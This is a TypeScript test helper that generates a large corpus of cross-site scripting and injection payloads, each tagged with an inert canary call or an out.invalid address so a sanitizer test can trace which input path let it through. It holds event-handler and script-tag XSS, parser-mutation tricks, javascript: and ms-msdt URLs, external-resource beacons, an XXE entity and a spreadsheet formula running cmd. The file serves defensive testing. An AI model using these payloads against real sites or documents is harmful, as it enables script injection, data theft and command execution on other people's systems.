// Texts that mean harm. In each `J` stands for a script that tells (`canary(1017)`), `U` for an address outside that
// tells (`https://out.invalid/1017`). The number says by which door it came and which text it was.

/** The texts with the numbers of one door in them, as many as were asked for, of every kind some. */
export function vectorsFor(door: number, count: number): readonly string[] {
  const step = templates.length / Math.min(count, templates.length);
  return Array.from({ length: count }, (_, index) => {
    const at = Math.floor(index * step) % templates.length;
    const id = door * 1000 + at;
    return (templates[at] ?? '')
      .replaceAll('U', `https://out.invalid/${id}`)
      .replaceAll('J', `canary(${id})`);
  });
}

/** The numbers that a text holds. */
export function idsIn(text: string): readonly number[] {
  return [...text.matchAll(/(?:canary\((?:&quot;)?|out\.invalid\/)(\d{4,6})/g)].map(([, id]) => Number(id));
}

export function doorOf(id: number): number {
  return Math.floor(id / 1000);
}

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const entities = (text: string): string => [...text].map((each) => `&#${each.charCodeAt(0)};`).join('');
const hexEntities = (text: string): string =>
  [...text].map((each) => `&#x${each.charCodeAt(0).toString(16)}`).join('');

const handlers = [
  ...[
    '<img src=x onerror=J>',
    '<img src=x onerror="J">',
    "<img src='x' onerror='J'>",
    '<img/src=x/onerror=J>',
  ],
  ...[
    '<IMG SRC=x OnErRoR=J>',
    '<img src=x onerror\n=\nJ>',
    '<img src onerror=J//',
    '"><img src=x onerror=J>',
  ],
  ...["'><img src=x onerror=J>", '`><img src=x onerror=J>', '</textarea><img src=x onerror=J>'],
  ...['</title><img src=x onerror=J>', '</style><img src=x onerror=J>', '</noscript><img src=x onerror=J>'],
  ...[
    '<body onload=J>',
    '<body onpageshow=J>',
    '<svg onload=J>',
    '<svg/onload=J>',
    '<svg><g onload=J></g></svg>',
  ],
  ...['<details open ontoggle=J><summary>x</summary>y</details>', '<input autofocus onfocus=J>'],
  ...['<select autofocus onfocus=J><option>x</select>', '<textarea autofocus onfocus=J></textarea>'],
  ...['<button autofocus onfocus=J>x</button>', '<a href=# autofocus tabindex=1 onfocus=J>x</a>'],
  ...['<div contenteditable autofocus onfocus=J>x</div>', '<video src=x onerror=J></video>'],
  ...[
    '<video><source onerror=J></video>',
    '<audio src=x onerror=J></audio>',
    '<audio autoplay oncanplay=J src=U></audio>',
  ],
  ...['<marquee onstart=J>x</marquee>', '<object data=x onerror=J></object>', '<embed src=x onerror=J>'],
  ...[
    '<iframe onload=J></iframe>',
    '<iframe src=about:blank onload=J></iframe>',
    '<link rel=stylesheet href=x onerror=J>',
  ],
  ...[
    '<style onload=J></style>',
    '<script src=x onerror=J></script>',
    '<form onsubmit=J><button autofocus>x</button></form>',
  ],
  ...['<p onclick=J>x</p>', '<p onmouseover=J>x</p>', '<div onpointerenter=J>x</div>', '<p oncopy=J>x</p>'],
  ...['<p onanimationstart=J style="animation:x 1s">x</p><style>@keyframes x{}</style>'],
  ...['<p ontransitionend=J style="transition:all 1s">x</p>', '<div popover id=p onbeforetoggle=J>x</div>'],
  ...[
    '<input type=image src=x onerror=J>',
    '<isindex type=image src=x onerror=J>',
    '<image src=x onerror=J>',
  ],
  ...['<math onclick=J>x</math>', '<x onclick=J tabindex=0>x</x>', '<img srcset="x" onerror=J>'],
];

const scripts = [
  ...[
    '<script>J</script>',
    '<SCRIPT>J</SCRIPT>',
    '<scr<script>ipt>J</scr</script>ipt>',
    '<script\n>J</script\n>',
  ],
  ...['<script type=module>J</script>', '<script src="U"></script>', '<script src=//out.invalid/x></script>'],
  ...[`<script src="data:text/javascript,J"></script>`, '<script>J', '<!--<script>--><script>J</script>'],
  ...['<svg><script>J</script></svg>', '<svg><script href="data:text/javascript,J"/></svg>'],
  ...['<math><script>J</script></math>', '<template><script>J</script></template>'],
  ...['<noscript><p title="</noscript><img src=x onerror=J>"></noscript>'],
  ...['<xmp><p title="</xmp><img src=x onerror=J>"></xmp>', '<plaintext><script>J</script>'],
  ...['<![CDATA[<script>J</script>]]>', '<?xml version="1.0"?><script>J</script>'],
  ...[
    '<script>/*</script><img src=x onerror=J>*/',
    '{{constructor.constructor("J")()}}',
    '${J}',
    '#{J}',
    '<%= J %>',
  ],
  ...[
    'javascript:J',
    'JaVaScRiPt:J',
    '<script>eval("J")</script>',
    "';J;//",
    '";J;//',
    '-J-',
    '`;J;`',
    '*/J/*',
  ],
];

const mutations = [
  ...[
    '<svg></p><style><a id="</style><img src=x onerror=J>">',
    '<math></p><style><!--</style><img src=x onerror=J>-->',
  ],
  ...['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=J&gt;">'],
  ...['<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=J>'],
  ...['<svg><desc><table><title><style><a title="</style><img src=x onerror=J>">'],
  ...[
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=J></style></annotation-xml></math>',
  ],
  ...[
    '<svg><foreignObject><img src=x onerror=J></foreignObject></svg>',
    '<table><td><svg><p><style><img src=x onerror=J></style>',
  ],
  ...[
    '<noembed><img title="</noembed><img src=x onerror=J>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=J>">',
  ],
  ...[
    '<select><template><img src=x onerror=J></template></select>',
    '<select><style></select><img src=x onerror=J></style>',
  ],
  ...[
    '<div><template shadowrootmode=open><img src=x onerror=J></template></div>',
    '<p id="</p><img src=x onerror=J>">',
  ],
  ...[
    '<img alt="`><img src=x onerror=J>`">',
    '<a title="&quot;><img src=x onerror=J>">x</a>',
    '<!-- --!><img src=x onerror=J> -->',
  ],
  ...[
    '<!--><img src=x onerror=J>-->',
    '<!---><img src=x onerror=J>-->',
    '</ x><img src=x onerror=J>',
    '<a<img src=x onerror=J>',
  ],
  ...[
    '&lt;img src=x onerror=J&gt;',
    '&amp;lt;img src=x onerror=J&amp;gt;',
    '%3Cimg src=x onerror=J%3E',
    '\\u003cimg src=x onerror=J\\u003e',
  ],
  ...[
    '＜img src=x onerror=J＞',
    '<img\u00a0src=x onerror=J>',
    '<img\u200bsrc=x onerror=J>',
    '+ADw-script+AD4-J+ADw-/script+AD4-',
  ],
];

const addresses = [
  ...[
    '<a href="javascript:J">x</a>',
    '<a href=" javascript:J">x</a>',
    '<a href="java\tscript:J">x</a>',
    '<a href="java\nscript:J">x</a>',
  ],
  ...[
    `<a href="${entities('javascript:')}J">x</a>`,
    `<a href="${hexEntities('javascript:')}J">x</a>`,
    '<a href="&#1;javascript:J">x</a>',
  ],
  ...[
    '<a href="javascript&colon;J">x</a>',
    '<a href="javascript&Tab;:J">x</a>',
    '<a href="JAVASCRIPT:J">x</a>',
    '<a href="\u202ejavascript:J">x</a>',
  ],
  ...[
    '<a href="java\u200bscript:J">x</a>',
    '<a href="vbscript:J">x</a>',
    '<a href="livescript:J">x</a>',
    '<a href="view-source:U">x</a>',
  ],
  ...[
    `<a href="data:text/html;base64,${b64('<script>1</script>')}">J</a>`,
    '<a href="data:text/html,<script>J</script>">x</a>',
  ],
  ...[
    '<a href="blob:U">J</a>',
    '<a href="filesystem:U">J</a>',
    '<a href="file:///etc/passwd">J</a>',
    '<a href="\\\\out.invalid\\share">J</a>',
  ],
  ...[
    '<a href="//out.invalid/x">J</a>',
    '<a href="/\\out.invalid">J</a>',
    '<a href="https:\\\\out.invalid">J</a>',
    '<a href="https://user:word@out.invalid/">J</a>',
  ],
  ...[
    '<a href="ms-msdt:/id PCWDiagnostic">J</a>',
    '<a href="ms-word:ofe|u|U">J</a>',
    '<a href="search-ms:query=x">J</a>',
    '<a href="ms-officecmd:{}">J</a>',
  ],
  ...[
    '<a href="app://secretariat/">J</a>',
    '<a href="chrome://settings">J</a>',
    '<a href="about:blank">J</a>',
    '<a href="ftp://out.invalid/">J</a>',
  ],
  ...[
    '<a href="intent://out.invalid#Intent;end">J</a>',
    '<a href="x:J">x</a>',
    '<a xlink:href="javascript:J">x</a>',
    '<svg><a href="javascript:J"><text>x</text></a></svg>',
  ],
  ...[
    '<svg><a><animate attributeName=href values="javascript:J"/><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=J />#x"/></svg>',
  ],
  ...[
    '<math><maction xlink:href="javascript:J">x</maction></math>',
    '<area href="javascript:J">',
    '<a href="#" ping="U">x</a>',
    '<a href=javascript:J target=_blank>x</a>',
  ],
  ...[
    '<form action="javascript:J"><button autofocus>x</button></form>',
    '<button form=x formaction="javascript:J">x</button>',
    '<input type=submit formaction="javascript:J">',
  ],
  ...[
    '<iframe src="javascript:J"></iframe>',
    '<iframe srcdoc="<script>J</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.J&gt;"></iframe>',
  ],
  ...[
    '<embed src="javascript:J">',
    '<object data="javascript:J"></object>',
    '<object data="data:text/html,<script>J</script>"></object>',
    '<frameset onload=J><frame src="javascript:J"></frameset>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:J">',
    '<base href="javascript:J//">',
    '<isindex action="javascript:J" type=submit>',
  ],
];

const calls = [
  ...[
    '<img src="U">',
    '<img srcset="U 1x">',
    '<picture><source srcset="U"><img></picture>',
    '<svg><image href="U"/></svg>',
    '<input type=image src="U">',
  ],
  ...[
    '<video src="U" autoplay></video>',
    '<video poster="U"></video>',
    '<audio src="U" autoplay></audio>',
    '<track src="U">',
    '<embed src="U">',
  ],
  ...[
    '<object data="U"></object>',
    '<iframe src="U"></iframe>',
    '<frame src="U">',
    '<link rel=stylesheet href="U">',
    '<link rel=icon href="U">',
  ],
  ...[
    '<link rel=preload as=script href="U">',
    '<link rel=prefetch href="U">',
    '<link rel=dns-prefetch href="U">',
    '<link rel=preconnect href="U">',
    '<link rel=modulepreload href="U">',
  ],
  ...[
    '<link rel=manifest href="U">',
    '<style>@import "U";</style>',
    '<style>*{background:url(U)}</style>',
    '<p style="background:url(U)">x</p>',
  ],
  ...[
    '<p style="background-image:image-set(\'U\' 1x)">x</p>',
    '<p style="list-style:url(U)">x</p>',
    '<p style="cursor:url(U),auto">x</p>',
    '<style>@font-face{font-family:x;src:url(U)}*{font-family:x}</style>',
  ],
  ...[
    '<p style="filter:url(U#x)">x</p>',
    '<svg><filter><feImage href="U"/></filter></svg>',
    '<table background="U"><td>x</table>',
    '<body background="U">',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=U">',
    '<base href="U"><img src="x">',
    '<form action="U"><input autofocus></form>',
    '<script>fetch("U")</script>',
  ],
  ...[
    '<?xml-stylesheet href="U"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "U">]><x>&e;</x>',
    '<html manifest="U">',
    '<bgsound src="U">',
    '<menuitem icon="U">',
    '<html:img src="U">',
  ],
  ...[
    '<v:imagedata src="U"/>',
    '<o:OLEObject href="U"/>',
    '![x](U)',
    '[x](javascript:J)',
    '@import url(U)',
    '<link rel=import href="U">',
  ],
];

const words = [
  ...[
    '{ INCLUDEPICTURE "U" }',
    '{ DDEAUTO c:\\\\x "J" }',
    '{ HYPERLINK "javascript:J" }',
    '=cmd|"/c calc"!A0 J',
    '@SUM(1+1)*cmd|"J"',
    '=HYPERLINK("U","x")',
  ],
  ...[
    '__proto__ J',
    'constructor J',
    '<a id=location name=location>J</a>',
    '<form name=body><input name=innerHTML value=J></form>',
    '<img name=getElementById src=x onerror=J>',
  ],
  ...[
    '<a id=trustedTypes>J</a>',
    '\u202eJ\u202c',
    '\u2066J\u2069',
    '%00J',
    '&e;J',
    '<w:instrText>J</w:instrText>',
    '</w:t><w:altChunk r:id="J"/>',
    ']]>J',
  ],
];

const templates: readonly string[] = [
  ...handlers,
  ...scripts,
  ...mutations,
  ...addresses,
  ...calls,
  ...words,
];

/** How many different ones there are. */
export const vectorCount = templates.length;
